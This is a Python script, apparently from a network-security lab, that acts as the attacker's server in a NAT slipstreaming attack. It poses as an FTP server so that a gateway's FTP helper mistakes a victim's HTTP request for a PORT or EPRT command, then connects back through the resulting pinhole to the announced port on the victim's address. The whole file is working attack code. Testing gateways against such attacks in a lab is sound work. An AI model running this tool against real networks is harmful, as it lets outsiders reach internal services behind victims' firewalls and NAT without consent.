#!/usr/bin/env python3
"""The attacker's server of a NAT slipstreaming attempt in the ftpgate lab.

    slipstream-server.py --listen 198.51.100.2:21 --out FILE [--ready FILE] [--http]
                         [--greet] [--timeout 15]

A victim's HTTP client (curl, standing in for a browser) is made to send requests to this
port 21. The server plays the FTP server a gateway's ALG expects: without --http it answers
the first bytes it reads with "230" (a login, to an ALG that takes the request line for a
command and believes the answer), after greeting the connection at once with "220" when
--greet is given; with --http it answers every complete HTTP request with an HTTP
response whose body is the same two lines, so a keep-alive client sends a second request on
the same connection.

Whenever the bytes received hold a new "PORT h1,h2,h3,h4,p1,p2" or "EPRT |1|ADDR|PORT|", the
server connects to the address it names, and also to the same port on the connection's peer
(the victim's public address: where a gateway's pinhole would be), sends "slipstream\\n" and
closes. FILE gets one line per try ("PORT 198,51,100,1,12,234 -> 198.51.100.1:3306
connected" or "... failed: ERROR") and FILE.received the bytes received.

Accepts one connection; exits when the victim closes it, without --http once it has tried
an announcement, or after --timeout seconds.
"""

import argparse
import re
import socket
import sys
import time

PORT_RE = re.compile(rb"PORT (\d+),(\d+),(\d+),(\d+),(\d+),(\d+)")
EPRT_RE = re.compile(rb"EPRT \|1\|([0-9.]+)\|(\d+)\|")
GREETING = b"220 attacker FTP ready\r\n"
LOGIN = b"230 Login successful.\r\n"


def announcements(data):
    """(line, address, port) of every PORT/EPRT in data, in order."""
    found = []
    for match in PORT_RE.finditer(data):
        nums = [int(n) for n in match.groups()]
        found.append(
            (match.start(), match.group(0), "%d.%d.%d.%d" % tuple(nums[:4]), nums[4] * 256 + nums[5])
        )
    for match in EPRT_RE.finditer(data):
        found.append((match.start(), match.group(0), match.group(1).decode(), int(match.group(2))))
    return [f[1:] for f in sorted(found)]


def try_connect(host, port):
    try:
        with socket.create_connection((host, port), timeout=2) as conn:
            conn.sendall(b"slipstream\n")
        return "connected"
    except OSError as err:
        return "failed: %s" % err


def complete_requests(buf):
    """Splits complete HTTP requests (headers and Content-Length body) off buf."""
    count = 0
    while True:
        end = buf.find(b"\r\n\r\n")
        if end < 0:
            return count, buf
        head = buf[:end].decode("latin-1")
        length = 0
        for line in head.split("\r\n")[1:]:
            name, _, value = line.partition(":")
            if name.strip().lower() == "content-length":
                length = int(value.strip() or 0)
        if len(buf) < end + 4 + length:
            return count, buf
        buf = buf[end + 4 + length :]
        count += 1


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--listen", required=True, help="ADDRESS:PORT")
    parser.add_argument("--out", required=True)
    parser.add_argument("--ready", help="created once listening")
    parser.add_argument("--http", action="store_true")
    parser.add_argument("--greet", action="store_true", help='send "220" at once')
    parser.add_argument("--timeout", type=float, default=15.0)
    args = parser.parse_args(argv)
    host, _, port = args.listen.rpartition(":")
    deadline = time.monotonic() + args.timeout
    received = b""
    tried = 0
    with socket.socket() as listener, open(args.out, "w", buffering=1) as out:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind((host, int(port)))
        listener.listen(1)
        listener.settimeout(args.timeout)
        if args.ready:
            open(args.ready, "w").close()
        try:
            conn, peer = listener.accept()
        except socket.timeout:
            sys.exit("slipstream-server.py: no connection within %gs" % args.timeout)
        with conn:
            if args.greet:
                conn.sendall(GREETING)
            logged_in = args.http
            pending = b""
            while time.monotonic() < deadline:
                conn.settimeout(max(deadline - time.monotonic(), 0.01))
                try:
                    chunk = conn.recv(65536)
                except (socket.timeout, OSError):
                    break
                if not chunk:
                    break
                received += chunk
                if not logged_in:
                    conn.sendall(LOGIN)
                    logged_in = True
                if args.http:
                    pending += chunk
                    count, pending = complete_requests(pending)
                    for _ in range(count):
                        conn.sendall(
                            b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
                            b"Content-Length: %d\r\n\r\n%s" % (len(LOGIN), LOGIN)
                        )
                found = announcements(received)
                for line, addr, target_port in found[tried:]:
                    for target in dict.fromkeys([addr, peer[0]]):
                        result = try_connect(target, target_port)
                        out.write("%s -> %s:%d %s\n" % (line.decode(), target, target_port, result))
                tried = len(found)
                if found and not args.http:
                    break  # the victim reads to the end of the connection (HTTP/0.9)
    with open(args.out + ".received", "wb") as raw:
        raw.write(received)


if __name__ == "__main__":
    main(sys.argv[1:])
